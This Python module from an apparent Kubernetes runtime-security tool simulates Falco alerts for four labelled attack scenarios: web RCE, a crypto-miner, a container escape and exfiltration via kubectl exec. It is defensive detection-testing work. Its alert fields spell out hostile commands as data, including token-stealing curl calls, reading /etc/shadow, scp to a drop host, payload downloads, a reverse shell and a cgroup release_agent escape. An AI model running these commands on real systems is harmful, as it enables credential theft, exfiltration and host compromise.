"""The attacks: four labelled scenarios, each a timed list of alerts played in one pod."""

# ruff: noqa: S108  # /tmp paths here are what simulated processes touch, not files we open

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Final

from kubesentinel.models.falco_alert import Priority
from kubesentinel.runtime.mitre import mitre_of
from kubesentinel.runtime.simulate.cluster import API_SERVER, Pod
from kubesentinel.runtime.simulate.constants import NS
from kubesentinel.runtime.simulate.fields import connect, ephemeral_port, exec_audit, proc
from kubesentinel.runtime.simulate.fixed import Fixed
from kubesentinel.runtime.simulate.records import ScenarioLabel, ScenarioStep
from kubesentinel.runtime.simulate.rules import RULES
from kubesentinel.runtime.simulate.workloads import BY_NAME

# thread.cap_effective of a privileged container: every capability of a 6.x kernel.
_CAPS_ALL: Final = (
    "CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID "
    "CAP_SETUID CAP_SETPCAP CAP_LINUX_IMMUTABLE CAP_NET_BIND_SERVICE CAP_NET_BROADCAST "
    "CAP_NET_ADMIN CAP_NET_RAW CAP_IPC_LOCK CAP_IPC_OWNER CAP_SYS_MODULE CAP_SYS_RAWIO "
    "CAP_SYS_CHROOT CAP_SYS_PTRACE CAP_SYS_PACCT CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE "
    "CAP_SYS_RESOURCE CAP_SYS_TIME CAP_SYS_TTY_CONFIG CAP_MKNOD CAP_LEASE CAP_AUDIT_WRITE "
    "CAP_AUDIT_CONTROL CAP_SETFCAP CAP_MAC_OVERRIDE CAP_MAC_ADMIN CAP_SYSLOG CAP_WAKE_ALARM "
    "CAP_BLOCK_SUSPEND CAP_AUDIT_READ CAP_PERFMON CAP_BPF CAP_CHECKPOINT_RESTORE"
)

Step = tuple[float, str, dict[str, Any]]  # (seconds after the start, rule, fields beyond pod's)


def _web_rce(rng: random.Random, pod: Pod, t0: int) -> list[Step]:
    exe, parent = "/usr/sbin/apache2", "apache2 -DFOREGROUND"
    bearer = "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"
    api = f"curl -sk -H Authorization: Bearer {bearer} https://10.96.0.1/api/v1/namespaces/shop/secrets"
    scp = "scp -o StrictHostKeyChecking=no /tmp/.d.tgz loot@198.51.100.23:/srv/drop/"
    shell, cat = "sh -c id", "sh -c cat /etc/shadow"
    return [
        (0.0, "Run shell untrusted",
         proc("sh", "/usr/bin/dash", shell, "apache2", "apache2", "containerd-shim", pexe=exe,
              pcmdline=parent)),
        (2.4, "Run shell untrusted",
         proc("sh", "/usr/bin/dash", cat, "apache2", "apache2", "containerd-shim", pexe=exe,
              pcmdline=parent)),
        (2.41, "Read sensitive file untrusted",
         proc("cat", "/usr/bin/cat", "cat /etc/shadow", "sh", "apache2", "apache2",
              "containerd-shim", evt_type="openat") | {"fd.name": "/etc/shadow"}),
        (21.7, "Contact K8S API Server From Container",
         proc("curl", "/usr/bin/curl", api, "sh", "apache2")
         | connect(pod.ip, ephemeral_port(rng), API_SERVER, 443)),
        (47.2, "Launch Ingress Remote File Copy Tools in Container",
         proc("wget", "/usr/bin/wget", "wget -q http://203.0.113.50/k.sh -O /tmp/.k.sh", "sh",
              "apache2")),
        (73.9, "Launch Remote File Copy Tools in Container",
         proc("scp", "/usr/bin/scp", scp, "sh", "apache2")),
    ]  # fmt: skip


def _cron_miner(rng: random.Random, pod: Pod, t0: int) -> list[Step]:
    drop = "/tmp/.cache/kworker"
    wget = f"wget -q http://203.0.113.77/xmrig -O {drop}"
    steps: list[Step] = [
        (4.2, "Launch Ingress Remote File Copy Tools in Container",
         proc("wget", "/usr/bin/wget", wget, "sh", "containerd-shim")),
    ]  # fmt: skip
    wallet = "4" + "".join(rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
                           for _ in range(94))  # fmt: skip
    cmd = f"kworker -o stratum+tcp://pool.supportxmr.example:3333 -u {wallet} -p x --donate-level 1"
    written = t0 + int(5.3 * NS)  # when wget finished writing the binary
    for at in (9.8, 40.3, 70.6):  # the job script restarts the miner when it is killed
        miner = proc("kworker", drop, cmd, "sh", "containerd-shim",
                     flags="EXE_WRITABLE|EXE_UPPER_LAYER")  # fmt: skip
        miner |= {
            "proc.exe": drop,
            "proc.sname": "sh",
            "proc.cwd": "/app/",
            "proc.exe_ino.ctime": written,
            "proc.exe_ino.mtime": written,
            "proc.exe_ino.ctime_duration_proc_start": t0 + int(at * NS) - written,
        }
        # One execve, two rules: both alerts carry the same time.
        steps.append((at, "Drop and execute new binary in container", miner))
        steps.append((at, "Detect crypto miners using the Stratum protocol", miner))
    return steps


def _container_escape(rng: random.Random, pod: Pod, t0: int) -> list[Step]:
    shell = proc("bash", "/usr/bin/bash", "bash -i", "node-agent", "containerd-shim")
    shell |= connect(pod.ip, ephemeral_port(rng), "198.51.100.7", 4444, evt_type="dup2")
    agent = ("node-agent", "containerd-shim")
    release = "sh -c echo /mnt/host/tmp/x.sh > /tmp/cgrp/release_agent"
    return [
        (0.0, "Redirect STDOUT/STDIN to Network Connection in Container", shell),
        (34.5, "Mount Launched in Privileged Container",
         proc("mount", "/usr/bin/mount", "mount -t cgroup -o rdma cgroup /tmp/cgrp", "bash",
              *agent)),
        (36.1, "Mount Launched in Privileged Container",
         proc("mount", "/usr/bin/mount", "mount /dev/nvme0n1p1 /mnt/host", "bash", *agent)),
        (51.8, "Detect release_agent File Container Escapes",
         proc("sh", "/usr/bin/dash", release, "bash", *agent, evt_type="openat")
         | {"fd.name": "/tmp/cgrp/release_agent", "thread.cap_effective": _CAPS_ALL}),
    ]  # fmt: skip


def _exec_exfiltration(rng: random.Random, pod: Pod, t0: int) -> list[Step]:
    user, who = "contractor-7@example.com", pod.workload.user
    steps: list[Step] = [
        (0.0, "Attach/Exec Pod", exec_audit(user, pod.name, "data", "bash")),
        (0.38, "Terminal shell in container",
         proc("bash", "/usr/bin/bash", "bash", "runc", user=who, tty=34816)),
        (31.2, "Search Private Keys or Passwords",
         proc("find", "/usr/bin/find", "find / -name id_rsa", "bash", user=who, tty=34816)),
        (96.0, "Attach/Exec Pod", exec_audit(user, pod.name, "data", "tar")),
    ]  # fmt: skip
    backups = "/var/lib/postgresql/backups"
    tar = proc("tar", "/usr/bin/tar", f"tar cf - {backups}", "runc", user=who, evt_type="openat")
    names = ("customers-2025-12-31.sql.gz", "orders-2025-12-31.sql.gz", "pgpass.conf")
    for i, name in enumerate(names):  # kubectl cp: tar reads each file
        fields = tar | {"fd.name": f"{backups}/{name}"}
        steps.append(
            (96.35 + 0.8 * i, "Exfiltrating Artifacts via Kubernetes Control Plane", fields)
        )
    return steps


@dataclass(frozen=True, slots=True)
class _Scenario:
    id: str
    title: str
    summary: str
    workload: str
    at: float  # where in the window it starts, as a fraction
    build: Callable[[random.Random, Pod, int], list[Step]]  # (rng, pod, start time)


ATTACKS: Final = (
    _Scenario("web-rce", "Remote code execution in a privileged web app",
              "A PHP flaw in shop/storefront (privileged, runs as root) gives a shell: it reads "
              "/etc/shadow, calls the API server with the pod's token, downloads a tool and "
              "copies data out.", "storefront", 0.18, _web_rce),
    _Scenario("cron-miner", "Crypto-miner in a CronJob pod",
              "A poisoned :latest image of data/metrics-rollup downloads an XMRig miner to /tmp "
              "and runs it; the job script restarts it twice.", "metrics-rollup", 0.42,
              _cron_miner),
    _Scenario("container-escape", "Container escape attempt from a privileged DaemonSet",
              "A reverse shell in monitoring/node-agent (privileged, hostPID, hostPath /) mounts "
              "a cgroup and the host disk and writes a cgroup release_agent.", "node-agent",
              0.63, _container_escape),
    _Scenario("exec-exfiltration", "kubectl exec into the database with stolen credentials",
              "A contractor's credentials exec a shell in data/postgres-0, hunt for private "
              "keys, then kubectl cp the backups out.", "postgres", 0.82, _exec_exfiltration),
)  # fmt: skip


def play(f: Fixed, scenario: _Scenario) -> ScenarioLabel:
    c = f.c
    w = BY_NAME[scenario.workload]
    probe = Pod(w, w.name, 0, "10.244.0.1", "0" * 12, 0, 0)
    last = scenario.build(random.Random(0), probe, 0)[-1][0]  # noqa: S311  its length only
    latest = c.span_ns - int((last + 6) * NS)
    wanted = min(int(scenario.at * c.span_ns), latest)
    if w.kind == "CronJob":
        runs = [p for p in c.slots[w.name][0] if 0 <= p.start <= latest]
        pod = next((p for p in runs if p.start >= wanted), runs[-1])
        begin = pod.start + c.rng.randrange(1, 3) * NS
        pod.end = max(pod.end, begin + int((last + 30) * NS))  # the miner keeps the job running
    else:
        begin = min(wanted + c.rng.randrange(30 * NS), latest)
        slot = 0 if w.kind == "StatefulSet" else c.rng.randrange(len(c.slots[w.name]))
        pod = c.pod_at(w.name, begin, slot)
    jitter: dict[float, int] = {}  # steps at the same second are one event: one time
    steps: list[tuple[int, int, ScenarioStep]] = []
    for seconds, name, extra in scenario.build(c.rng, pod, c.start_ns + begin):
        rule = RULES[name]
        offset = begin + int(seconds * NS) + jitter.setdefault(seconds, c.rng.randrange(100_000))
        if rule.source == "k8s_audit":
            index = f.add(offset, f.audit_host, name, extra)
        else:
            index = f.add(offset, pod.host, name, pod.fields() | extra)
        step = ScenarioStep(c.start_ns + offset, name, Priority.parse(rule.priority), rule.source)
        steps.append((offset, index, step))
    ordered = tuple(step for _, _, step in sorted(steps, key=lambda s: s[:2]))
    rules = tuple(dict.fromkeys(s.rule for s in ordered))
    tactics: dict[str, None] = {}
    techniques: set[str] = set()
    for name in rules:
        found, techs = mitre_of(RULES[name].tags)
        tactics.update(dict.fromkeys(found))
        techniques.update(techs)
    return ScenarioLabel(
        id=scenario.id,
        title=scenario.title,
        summary=scenario.summary,
        workload=w,
        pod=pod.name,
        node=pod.host,
        start_ns=ordered[0].time_ns,
        end_ns=ordered[-1].time_ns,
        rules=rules,
        tactics=tuple(tactics),
        techniques=tuple(sorted(techniques)),
        steps=ordered,
    )
